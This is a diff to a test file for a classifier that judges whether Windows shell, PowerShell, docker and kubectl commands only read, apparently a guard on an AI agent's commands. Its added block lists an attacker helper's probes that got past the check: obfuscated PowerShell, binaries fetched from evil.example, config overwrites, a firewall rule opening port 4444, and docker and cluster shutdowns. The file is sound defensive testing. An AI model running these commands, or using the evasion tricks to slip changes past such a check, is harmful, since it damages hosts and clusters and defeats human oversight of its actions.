@@ -44,6 +44,13 @@ describe('commands that read', () => {
     ['kubectl', 'kubectl -n kube-system exec {{pod}} "--" ipconfig /all'],
     ['kubectl', 'kubectl get pods -A -o wide --field-selector spec.nodeName={{node}}'],
     ['reg', 'reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\hns'],
+    ['cmd', 'curl -sSI https://mcr.microsoft.com/v2/'],
+    ['cmd', 'curl -X HEAD https://mcr.microsoft.com/v2/'],
+    ['kubectl', 'kubectl exec -n kube-system {{pod}} -c app "--" ipconfig /all'],
+    ['docker', 'docker exec {{container}} git config --show-origin --get-all core.longpaths'],
+    ['cmd', '"C:\\Program Files\\Docker\\docker.exe" ps'],
+    ['powershell', '& "C:\\Windows\\System32\\ipconfig.exe" /all'],
+    ['powershell', 'Get-ChildItem -Force C:\\ProgramData\\docker | Measure-Object -Property Length -Sum'],
     ['net', 'net use'],
   ])('%s: %s', (shell, command) => {
     expect(notReadOnly(command, shell)).toBeUndefined();
@@ -61,7 +68,7 @@ describe('what does not read, or cannot be read, is doubted with the part that s
     ['powershell', 'Get-Process | sc C:\\ProgramData\\docker\\config\\daemon.json', 'sc', 'command'],
     ['powershell', 'Get-Item x; function Get-Y { Get-Item x }', 'function', 'command'],
     ['powershell', 'Get-Service docker | % Stop', '% Stop', 'method'],
-    ['powershell', 'Get-Service docker | ForEach-Object -MemberName Kill', 'ForEach-Object Kill', 'method'],
+    ['powershell', 'Get-Service docker | ForEach-Object -MemberName Kill', 'ForEach-Object -MemberName', 'method'],
     ['powershell', 'Format-Volume -DriveLetter D', 'Format-Volume', 'command'],
     ['powershell', 'New-Object Net.WebClient', 'New-Object', 'command'],
     // Methods that change, called on anything, by any spelling.
@@ -78,21 +85,24 @@ describe('what does not read, or cannot be read, is doubted with the part that s
     ['powershell', 'Get-Date 2> C:\\x.txt', '2> C:\\x.txt', 'redirection'],
     ['powershell', 'Invoke-WebRequest https://example.org/x -OutFile C:\\x', 'Invoke-WebRequest -OutFile', 'arguments'],
     ['powershell', 'Invoke-RestMethod -Method:Post https://example.org/stop', 'Invoke-RestMethod -Method Post', 'arguments'],
-    ['powershell', 'Test-ComputerSecureChannel -Repair', 'Test-ComputerSecureChannel -Repair', 'arguments'],
+    ['powershell', 'Test-ComputerSecureChannel -Repair', 'Test-ComputerSecureChannel', 'command'],
     // Scripts and text run as code.
     ['powershell', ". 'C:\\Users\\Public\\x.ps1'", ". 'C:\\Users\\Public\\x.ps1'", 'call'],
     ['powershell', '& $cmd', '& $cmd', 'call'],
     ['powershell', '.\\x.ps1', '.\\x.ps1', 'command'],
     ['powershell', 'Get-Date &', '&', 'call'],
     // Programs that change, or read with options that write.
-    ['powershell', 'curl -o C:\\x https://example.org/', 'curl -o C:\\x https://example.org/', 'arguments'],
+    ['powershell', 'curl -o C:\\x https://example.org/', 'curl', 'command'],
+    ['cmd', 'curl -o C:\\x https://example.org/', 'curl -o C:\\x https://example.org/', 'arguments'],
+    ['cmd', 'curl -sSo C:\\x https://example.org/', 'curl -sSo C:\\x https://example.org/', 'arguments'],
     ['powershell', 'netsh -f C:\\x.txt interface show interface', 'netsh -f C:\\x.txt interface show interface', 'arguments'],
     ['powershell', 'git branch evil', 'git branch evil', 'arguments'],
     ['powershell', 'net user Administrator P@ss1', 'net user Administrator P@ss1', 'arguments'],
     ['cmd', 'dir & del C:\\x', 'del', 'command'],
     ['cmd', 'set PATH=C:\\Users\\Public& whoami', 'set PATH=C:\\Users\\Public', 'arguments'],
     ['cmd', 'ipconfig /all > C:\\x.txt', '> C:\\x.txt', 'redirection'],
-    ['cmd', 'for /f %i in (x) do del %i', 'for', 'command'],
+    ['cmd', 'for /f %i in (x) do del %i', '%', 'syntax'],
+    ['cmd', 'for /f i in (x) do del i', 'for', 'command'],
     ['docker', 'docker exec web cmd /c "dir & del C:\\x"', 'del', 'command'],
     ['docker', 'docker exec -it web powershell', 'powershell', 'arguments'],
     ['docker', 'docker buildx inspect --bootstrap', 'docker buildx inspect --bootstrap', 'arguments'],
@@ -102,9 +112,68 @@ describe('what does not read, or cannot be read, is doubted with the part that s
     ['kubectl', 'kubectl delete pod web', 'kubectl delete pod web', 'arguments'],
     ['reg', 'reg add HKLM\\SOFTWARE\\x /v y /d 1', 'reg add HKLM\\SOFTWARE\\x /v y /d 1', 'arguments'],
     ['net', 'net use Z: \\\\srv\\share', 'net use Z: \\\\srv\\share', 'arguments'],
+    ['cmd', 'C:\\Users\\Public\\docker.exe ps', 'C:\\Users\\Public\\docker.exe', 'command'],
+    ['cmd', '"C:\\Program Files\\..\\Users\\Public\\docker.exe" ps', 'C:\\Program Files\\..\\Users\\Public\\docker.exe', 'command'],
+    ['kubectl', 'kubectl exec {{pod}} --kubeconfig x "--" ipconfig', 'kubectl exec x0 --kubeconfig x -- ipconfig', 'arguments'],
   ])('%s: %s', (shell, command, part, why) => {
     expect(notReadOnly(command, shell)).toEqual({ part, why });
     expect(readOnlyDoubt(command, shell)).toBeDefined();
+  });
+
+  // A second attacker helper's probes (2026-12-06): each passed kb check as read-only, low risk against the first version
+  // of the list of what reads, and each changes the machine, a container or the cluster (attack35ro).
+  it.each([
+    ["powershell", "Get-Service docker | ForEach-Object -MemberName:Stop"],
+    ["powershell", "Get-Service docker | % -Mem:Stop"],
+    ["powershell", "(Get-Service docker).ForEach('Stop')"],
+    ["powershell", "$m = 'Stop'; (Get-Service docker).$m()"],
+    ["powershell", "(Get-Service docker).('Stop')()"],
+    ["powershell", "$w = [System.IO.StreamWriter, mscorlib]'C:\\ProgramData\\docker\\config\\daemon.json'"],
+    ["powershell", "$t = [type]::GetType('System.IO.StreamWriter'); $t::new('C:\\ProgramData\\docker\\config\\daemon.json')"],
+    ["powershell", "Write-Host 'a’; \\\\evil.example\\s\\x.exe; ‘b'"],
+    ["powershell", "Write-Host \"a”; \\\\evil.example\\s\\x.exe; “b\""],
+    ["powershell", "$( <# ) #>$null; \\\\evil.example\\s\\x.exe )"],
+    ["powershell", "& { param([ValidateScript({ \\\\evil.example\\s\\x.exe; $true })]$n) $n } 1"],
+    ["powershell", "[Environment]::NewLine[(\\\\evil.example\\s\\x.exe)]"],
+    ["powershell", "7z.exe x \\\\evil.example\\s\\a.7z -oC:\\ProgramData\\docker\\config -y"],
+    ["powershell", "Get-Date 2>$null\\..\\ProgramData\\docker\\config\\daemon.json"],
+    ["powershell", "Invoke-WebRequest https://evil.example/daemon.json -UseBasicParsing -OutF C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["powershell", "Invoke-WebRequest https://evil.example/daemon.json -UseBasicParsing –OutFile C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["powershell", "Invoke-RestMethod -Me Post http://127.0.0.1:2375/containers/web/stop"],
+    ["powershell", "$p = @{ Method = 'Post'; Uri = 'http://127.0.0.1:2375/containers/web/stop' }; Invoke-RestMethod @p"],
+    ["powershell", "$PSDefaultParameterValues = @{ 'Invoke-WebRequest:OutFile' = 'C:\\ProgramData\\docker\\config\\daemon.json' }; Invoke-WebRequest https://evil.example/daemon.json -UseBasicParsing"],
+    ["powershell", "Test-ComputerSecureChannel -Rep"],
+    ["powershell", "\\\\evil.example\\share\\ipconfig.exe /all"],
+    ["powershell", "(Get-Item C:\\ProgramData\\docker\\config\\daemon.json).Attributes++"],
+    ["powershell", "Get-PackageProvider -Name NuGet -ForceBootstrap"],
+    ["powershell", "Get-WindowsUpdateLog -LogPath C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["powershell", "ConvertFrom-CIPolicy -XmlFilePath C:\\Users\\Public\\p.xml -BinaryFilePath C:\\Windows\\System32\\CodeIntegrity\\SIPolicy.p7b"],
+    ["powershell", "Get-CimInstance Win32_Product | Select-Object Name, Version"],
+    ["powershell", "netsh advfirewall firewall a`dd rule name=`show dir=in action=allow protocol=TCP localport=4444"],
+    ["powershell", "wmic process where \"name='dockerd.exe' or name='get'\" de'lete'"],
+    ["powershell", "cmd /c 'ver %COMSPEC:\"=% & route add 0.0.0.0 mask 0.0.0.0 10.9.9.9'"],
+    ["cmd", "curl -X POST http://127.0.0.1:2375/containers/web/stop"],
+    ["cmd", "git log -1 --output=C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["cmd", "sort C:\\Users\\Public\\x.txt /output C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["cmd", "certutil -store My 0 C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["cmd", "nltest /sc_verify:contoso.com"],
+    ["cmd", "aws s3api get-object --bucket b --key k C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["cmd", "crictl --tracing-endpoint ps stopp web-pod"],
+    ["docker", "docker --config \\\\evil.example\\share compose version"],
+    ["docker", "docker compose config --output C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["docker", "docker --config=' ps' stop web"],
+    ["kubectl", "kubectl --cache-dir get scale deployment web --replicas=0"],
+    ["kubectl", "kubectl --cache-dir=' get' scale deployment web --replicas=0"],
+    ["kubectl", "kubectl --kubeconfig \\\\evil.example\\share\\config get pods"],
+    ["kubectl", "kubectl cluster-info dump --output-directory=C:\\ProgramData\\docker\\config"],
+    ["kubectl", "kubectl get-foo"],
+    ["docker", "docker exec web \\\\evil.example\\s\\hostname.exe"],
+    ["kubectl", "kubectl --profile=cpu --profile-output=C:\\ProgramData\\docker\\config\\daemon.json get pods"],
+    ["cmd", "crictl --profile-cpu=C:\\ProgramData\\docker\\config\\daemon.json ps"],
+
+  ])('%s: %s (an attacker\'s probe)', (shell, command) => {
+    expect(readOnlyDoubt(command, shell)).toBeDefined();
+    expect(notReadOnly(command, shell)).toBeDefined();
   });
 
   it('judges a parameter as the one value it stands for, and a program asked its version as reading', () => {
